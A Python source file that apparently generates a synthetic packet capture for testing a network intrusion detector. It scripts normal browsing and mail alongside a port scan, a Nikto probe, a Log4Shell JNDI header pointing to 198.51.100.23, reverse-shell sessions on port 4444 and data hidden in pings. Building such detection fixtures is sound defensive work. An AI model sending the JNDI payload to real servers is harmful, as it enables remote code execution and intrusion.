"""pcaps/demo.pcap: ten minutes of a small network that has a bad day, for `make demo`."""
from . import files, wire
from .registry import single
from .talk import INSIDE, OUTSIDE, PARTNER, RESOLVER, SERVER, Talk, answer, noise, query, request, response

BANNER = (b"Microsoft Windows [Version 10.0.19045.3693]\r\n"
          b"(c) Microsoft Corporation. All rights reserved.\r\n")


def look_up(talk, port, name, address):
    question = query(name, ident=port)
    talk.udp(INSIDE, port, RESOLVER, 53, question)
    talk.udp(RESOLVER, 53, INSIDE, port, answer(question, address))


def browsing(talk):
    for number, path in enumerate(["/", "/style.css", "/news?page=2", "/about"]):
        look_up(talk, 51000 + number, "www.example.com", PARTNER)
        talk.exchange(INSIDE, 51100 + number, PARTNER, 80, request(path), (response(b"<p>nothing to see</p>\n" * (20 + 60 * number)),))
        talk.wait(3)


def mail(talk):
    talk.exchange(INSIDE, 51200, PARTNER, 110, (b"+OK ready\r\n",), b"USER alice\r\n", (b"+OK\r\n",), b"PASS correct horse\r\n", (b"+OK\r\n",),
                  b"STAT\r\n", (b"+OK 0 0\r\n",), b"QUIT\r\n", (b"+OK\r\n",))


def scan(talk):
    for port in range(20, 52):
        talk.segment(OUTSIDE, 42000, SERVER, port, wire.SYN, window=1024, options=wire.mss(1460))
        talk.segment(SERVER, port, OUTSIDE, 42000, wire.RST | wire.ACK, seq=0, ack=0x1001, window=0)


def attack(talk):
    talk.exchange(OUTSIDE, 42001, SERVER, 80, request("/cgi-bin/status", agent="Mozilla/5.00 (Nikto/2.5.0)"), (response(b"", "404 Not Found"),))
    talk.exchange(OUTSIDE, 42002, SERVER, 80, request("/search", headers=["X-Api-Version: ${jndi:ldap://198.51.100.23:1389/a}"]), (response(b"no results\n"),))


def shell(talk):
    talk.exchange(SERVER, 42100, OUTSIDE, 4444, b"$ ", (b"id\n",), b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n$ ",
                  (b"uname -a\n",), b"Linux web 6.1.0-18-amd64 x86_64 GNU/Linux\n$ ")
    talk.exchange(INSIDE, 42101, OUTSIDE, 4444, BANNER + b"\r\nC:\\Users\\alice>", (b"whoami\n",), b"demo\\alice\r\n\r\nC:\\Users\\alice>")


def ping_tunnel(talk):
    for number in range(3):
        talk.ping(INSIDE, PARTNER, bytes(range(8, 64)), number=number)
    for number in range(12):
        talk.ping(SERVER, OUTSIDE, noise(480, seed=number + 40), number=number, ident=0x0999)


@single("demo.pcap", "browsing, mail, a port scan, an attack on a web server, shells, data in pings",
        {9000001: 1, 9000003: 1, 9000022: 1, 9000025: 1, 9000043: 1, 9000061: 1, 9000093: 2})
def demo():
    talk = Talk()
    for scene in (browsing, mail, scan, attack, shell, ping_tunnel):
        scene(talk)
        talk.wait(40)
    return files.pcap(talk.packets)
